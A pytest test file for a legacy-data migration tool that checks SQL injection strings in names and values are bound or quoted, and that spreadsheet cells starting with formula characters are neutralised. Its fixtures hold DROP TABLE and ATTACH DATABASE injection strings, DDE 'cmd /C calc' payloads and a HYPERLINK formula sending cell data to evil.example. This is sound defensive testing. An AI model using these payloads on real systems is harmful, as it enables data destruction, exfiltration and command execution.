"""Names and values from legacy files never become SQL, and nothing the wizard writes for
people runs as a spreadsheet formula.

SQL: legacy column, sheet and file names full of quotes and statements are mapped into a
target that has a hostile extra column; every statement the engine executes is recorded:
no legacy value ever appears in SQL text (values are bound parameters), a hostile target
column appears only quoted, and every value arrives verbatim.

Spreadsheets: problem lists (CSV and XLSX) and quarantined records neutralise cells that
start with =, +, -, @ (or a tab / carriage return), except plain numbers.
"""
from __future__ import annotations

import csv
import os
import sqlite3

import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from wizard.core import engine
from wizard.core.engine import PROBLEM_COLUMNS, Migration
from wizard.core.mapping import Profile
from wizard.core.readers import open_sources
from wizard.core.report import write_problems, write_rejected
from wizard.core.schema import init_db, quote_ident

from .helpers import assert_clean_exit, assert_intact, cli, tables_of

# --- SQL -------------------------------------------------------------------------------------
ID_COL = "id'); DROP TABLE visits;--"
NAME_COL = 'x"; DROP TABLE patients; --'
SHEET = "d'\"; DROP TABLE doctors;--"
VISITS_FILE = "vis\"its'; DROP TABLE bills;--.csv"
EVIL_TARGET_COL = "evil\"col'); DROP TABLE visits;--"
EVIL_CONSTANT = "'); DROP TABLE patients;--"
PATIENTS = [  # legacy id, full name
    ("1' OR '1'='1", "Robert'); DROP TABLE patients;--"),
    ('2"; DROP TABLE x;--', '"; DELETE FROM doctors; --'),
    ("3", "O'Brien \"the\" ? :name @p $1 %s"),
]
VISIT_NOTES = ["'; UPDATE patients SET \"fullName\"='pwned'; --", "?1 ?? @p $1 -- params?",
               ":system OR 1=1",
               "x');ATTACH DATABASE '/tmp/pwn.db' AS pwn;--"]


def _hostile_export(folder):
    folder.mkdir()
    with open(folder / "patients.csv", "w", newline="", encoding="utf-8") as f:
        w = csv.writer(f)
        w.writerow([ID_COL, NAME_COL, "phone", "gender"])
        for i, (pid, name) in enumerate(PATIENTS):
            w.writerow([pid, name, f"+9198000000{i:02d}", "F"])
    from openpyxl import Workbook
    wb = Workbook()
    ws = wb.active
    ws.title = SHEET
    ws.append(['doctor"id', "full'name"])
    ws.append(["D'1", "Dr. '); DROP TABLE doctors;--"])
    wb.save(folder / "book.xlsx")
    with open(folder / VISITS_FILE, "w", newline="", encoding="utf-8") as f:
        w = csv.writer(f)
        w.writerow(["visit'Id", "patient\"Id", "doctorId", "visitDate", "notes"])
        for i, note in enumerate(VISIT_NOTES):
            w.writerow([f"V{i}'--", PATIENTS[i % 3][0], "D'1", "2022-01-0" + str(i + 1), note])
    return folder


def _profile():
    return Profile.from_dict({
        "source_system": "legacy'; DROP TABLE migration_runs;--",
        "tables": {
            "patients.csv": {"target": "patients", "legacy_id": ID_COL, "fields": {
                "fullName": {"column": NAME_COL}, "phone": {"column": "phone"},
                "gender": {"column": "gender"}, EVIL_TARGET_COL: {"value": EVIL_CONSTANT}}},
            f"book.xlsx#{SHEET}": {"target": "doctors", "legacy_id": 'doctor"id', "fields": {
                "fullName": {"column": "full'name"}}},
            VISITS_FILE: {"target": "visits", "legacy_id": "visit'Id", "fields": {
                "patientId": {"column": 'patient"Id'}, "doctorId": {"column": "doctorId"},
                "visitDate": {"column": "visitDate"}, "notes": {"column": "notes"}}},
        }})


@pytest.fixture
def hostile(tmp_path):
    export = _hostile_export(tmp_path / "export")
    db = tmp_path / "target.db"
    init_db(db)
    con = sqlite3.connect(db)
    con.execute(f"ALTER TABLE patients ADD COLUMN {quote_ident(EVIL_TARGET_COL)} TEXT")
    con.commit()
    con.close()
    return export, db


def _recording_connect(statements):
    class Recording(sqlite3.Connection):
        def execute(self, sql, *a):
            statements.append(sql)
            return super().execute(sql, *a)

        def executemany(self, sql, *a):
            statements.append(sql)
            return super().executemany(sql, *a)

    def connect(path, readonly=False):
        uri = f"file:{os.path.realpath(path)}" + ("?mode=ro" if readonly else "")
        return sqlite3.connect(uri, uri=True, timeout=5, isolation_level=None,
                               factory=Recording)
    return connect


def test_hostile_names_never_reach_sql_unquoted_and_values_arrive_verbatim(hostile,
                                                                          monkeypatch):
    export, db = hostile
    con = sqlite3.connect(db)
    schema_before = tables_of(con)
    con.close()
    statements: list[str] = []
    monkeypatch.setattr(engine, "connect", _recording_connect(statements))
    tables, errors = open_sources([export])
    assert not errors and len(tables) == 3
    m = Migration(tables, _profile(), db)
    res = m.run(no_backup=True)
    assert res.committed and res.passed, [c for c in (x.to_dict() for x in res.verification.checks)
                                          if not c["passed"]]
    assert statements
    # nothing was dropped, deleted, updated or attached
    con = sqlite3.connect(db)
    assert set(schema_before) <= set(tables_of(con))
    assert [r[1] for r in con.execute("PRAGMA database_list")] == ["main"]
    got = dict(con.execute('SELECT l."legacyId", p."fullName" FROM patients p JOIN '
                           'migration_legacy_ids l ON l."hmsyncId" = p.id'))
    assert got == dict(PATIENTS)
    assert {r[0] for r in con.execute(f"SELECT {quote_ident(EVIL_TARGET_COL)} FROM patients"
                                      )} == {EVIL_CONSTANT}
    assert [r[0] for r in con.execute("SELECT notes FROM visits ORDER BY \"visitDate\"")] == \
        VISIT_NOTES
    assert con.execute('SELECT "fullName" FROM doctors').fetchall() == \
        [("Dr. '); DROP TABLE doctors;--",)]
    files = {r[0] for r in con.execute('SELECT DISTINCT "sourceFile" FROM '
                                       "migration_legacy_ids")}
    assert files == {"patients.csv", f"book.xlsx#{SHEET}", VISITS_FILE}
    systems = {r[0] for r in con.execute('SELECT "sourceSystem" FROM migration_runs')}
    assert systems == {"legacy'; DROP TABLE migration_runs;--"}
    con.close()
    assert_intact(db)
    # no legacy value or name is ever part of SQL text; the hostile target column only quoted
    sql = "\n".join(statements)
    values = [v for pair in PATIENTS for v in pair] + VISIT_NOTES + [
        EVIL_CONSTANT, "Dr. '); DROP TABLE doctors;--", "D'1", "legacy'; DROP TABLE"]
    names = [ID_COL, NAME_COL, SHEET, VISITS_FILE, 'doctor"id', "full'name", "visit'Id",
             'patient"Id']
    for v in values + names:
        if len(v) > 4:  # "3" is everywhere
            assert v not in sql, f"{v!r} reached SQL text"
    assert quote_ident(EVIL_TARGET_COL) in sql
    assert EVIL_TARGET_COL not in sql.replace(quote_ident(EVIL_TARGET_COL), "")
    # a second run recognises every record by its (hostile) legacy id: bound, not spliced
    res = Migration(open_sources([export])[0], _profile(), db).run(no_backup=True)
    assert res.passed
    assert all(s["imported"] == 0 for s in res.verification.tables.values())
    assert res.verification.tables["patients"]["duplicates"] == len(PATIENTS)


def test_hostile_export_through_the_cli(hostile, tmp_path):
    export, db = hostile
    prof = tmp_path / "profile.yaml"
    _profile().save(prof)
    rc, out, err = cli("validate", export, "--profile", prof, "--target", db,
                       "--issues", tmp_path / "issues.xlsx", "--rejected", tmp_path / "q")
    assert_clean_exit(rc, out, err, allowed=(0, 1))
    rc, out, err = cli("run", export, "--profile", prof, "--target", db, "--backup-dir",
                       tmp_path / "b", "--report", tmp_path / "r.json")
    assert_clean_exit(rc, out, err, allowed=(0, 1))
    assert "committed" in out
    con = sqlite3.connect(db)
    assert con.execute("SELECT count(*) FROM patients").fetchone()[0] == len(PATIENTS)
    con.close()


# --- spreadsheet formulas --------------------------------------------------------------------
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
DANGEROUS = ["=1+1", "=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")",
             "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
             "\t=1+1", "=1+1\n=2+2", "-", "+", "@", "=", "-x", "+44 20 7946 0958"]
NUMBERS = ["-500", "+12", "-0.5", "1e3", "-1.5e-3", "42"]


def _is_plain_number(s: str) -> bool:
    try:
        float(s)
        return True
    except ValueError:
        return False


def _safe_cell(s: str) -> bool:
    return not s.startswith(FORMULA_START) or _is_plain_number(s)


def _problems(values: list[str]) -> pd.DataFrame:
    n = len(values)
    return pd.DataFrame({
        "file": ["=evil.csv"] * n, "line": list(range(2, n + 2)), "table": ["patients"] * n,
        "legacy_id": values, "field": ["@name"] * n, "target_field": ["fullName"] * n,
        "value": values, "rule": ["patients.fullName.format"] * n,
        "severity": ["error"] * n, "message": ["-" + v for v in values]},
        columns=PROBLEM_COLUMNS)


def _csv_cells(path) -> list[str]:
    with open(path, newline="", encoding="utf-8-sig") as f:
        return [c for row in csv.reader(f) for c in row]


def _xlsx_cells(path):
    from openpyxl import load_workbook
    wb = load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                yield c


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_problem_lists_neutralise_formulas_but_keep_numbers(tmp_path, suffix):
    values = DANGEROUS + NUMBERS
    path = write_problems(_problems(values), tmp_path / f"issues{suffix}")
    if suffix == ".csv":
        cells = _csv_cells(path)
        assert all(_safe_cell(c) for c in cells), [c for c in cells if not _safe_cell(c)]
    else:
        cells = list(_xlsx_cells(path))
        assert not [c.coordinate for c in cells if c.data_type == "f"]
        strings = [c.value for c in cells if isinstance(c.value, str)]
        assert all(_safe_cell(s) for s in strings), [s for s in strings if not _safe_cell(s)]
        cells = strings
    for v in DANGEROUS:  # kept, readable, one apostrophe in front
        assert "'" + v in cells
    for v in NUMBERS:
        assert v in cells


@pytest.mark.parametrize("value", ["\r=1+1", "BP high\r=HYPERLINK(A1)",
                                   "x\r@SUM(1)"])
def test_problem_list_csv_a_lone_carriage_return_cannot_start_a_formula(tmp_path, value):
    path = write_problems(_problems([value]), tmp_path / "issues.csv")
    with open(path, newline="", encoding="utf-8-sig") as f:
        rows = list(csv.reader(f))
    assert len(rows) == 2, rows  # the header and one record, not split
    assert all(_safe_cell(c) for row in rows for c in row), rows


@settings(max_examples=60, deadline=None, derandomize=True, database=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(values=st.lists(st.text(alphabet=st.characters(blacklist_categories=("Cs",),
                                                      blacklist_characters="\x00\r"),
                               max_size=20), min_size=1, max_size=8))
def test_any_text_in_a_problem_list_is_safe_and_recoverable(tmp_path, values):
    """(Lone carriage returns: see the test above.)"""
    path = write_problems(_problems(values), tmp_path / "issues.csv")
    with open(path, newline="", encoding="utf-8-sig") as f:
        rows = list(csv.DictReader(f))
    for v, row in zip(values, rows):
        for cell in (row["value"], row["legacy_id"], row["message"]):
            assert _safe_cell(cell), cell
        assert row["value"] in (v, "'" + v) and (row["value"] == v) == _safe_cell(v)


def _quarantine_export(folder, header):
    folder.mkdir()
    with open(folder / "patients.csv", "w", newline="", encoding="utf-8") as f:
        w = csv.writer(f)
        w.writerow(header)
        for i, v in enumerate(DANGEROUS + NUMBERS):
            # no phone: every record is rejected and quarantined
            w.writerow([str(i), v, "", "F", v])
    return folder


def _quarantine(tmp_path, header):
    export = _quarantine_export(tmp_path / "export", header)
    tables, _ = open_sources([export])
    prof = Profile.from_dict({"tables": {"patients.csv": {
        "target": "patients", "legacy_id": header[0], "fields": {
            "fullName": {"column": header[1]}, "phone": {"column": header[2]},
            "gender": {"column": header[3]}, "address": {"column": header[4]}}}}})
    m = Migration(tables, prof)
    res = m.validate()
    files = write_rejected([s for s, _ in m.plan], res.problems, tmp_path / "quarantine")
    assert len(files) == 1
    return _csv_cells(files[0])


def test_quarantined_records_neutralise_formulas_but_keep_numbers(tmp_path):
    cells = _quarantine(tmp_path, ["patientId", "name", "phone", "gender", "address"])
    assert all(_safe_cell(c) for c in cells), [c for c in cells if not _safe_cell(c)]
    for v in NUMBERS:
        assert v in cells
    assert "'=1+1" in cells and "'+cmd|' /C calc'!A0" in cells


def test_quarantine_header_from_the_legacy_file_is_neutralised_too(tmp_path):
    cells = _quarantine(tmp_path, ["patientId", "=HYPERLINK(\"http://evil\")", "@phone",
                                   "gender", "+address"])
    assert all(_safe_cell(c) for c in cells), [c for c in cells if not _safe_cell(c)]


@pytest.mark.parametrize("cell", ["\n=1+1", " =1+1", "  @SUM(A1)", "\uff1d1+1", "\uff0bcmd",
                                  "\u3000=HYPERLINK(\"x\")", "\u22121+1"])
def test_formulas_behind_spaces_line_breaks_or_full_width_signs_are_neutralised(cell):
    from wizard.core.report import neutralise
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-500", " 42", "Asha", "a=b", "1+1"])
def test_plain_values_are_left_as_they_are(cell):
    from wizard.core.report import neutralise
    assert neutralise(cell) == cell


def test_a_line_break_in_a_file_name_cannot_forge_a_line_of_output(tmp_path):
    """A file named "a<newline>error: ...csv" printed a line of its own choosing into the
    output that scripts read; names are shown with their control characters escaped."""
    from .helpers import cli
    export = tmp_path / "export"
    export.mkdir()
    (export / "p\nPASS  integrity_check: forged.csv").write_text(
        "patientId,fullName\n1,Asha Rao\n", encoding="utf-8")
    rc, out, err = cli("inspect", export, "--no-sample")
    assert rc == 0
    assert not any(line.startswith("PASS") for line in (out + err).splitlines())
    assert "p\\nPASS  integrity_check: forged.csv" in out
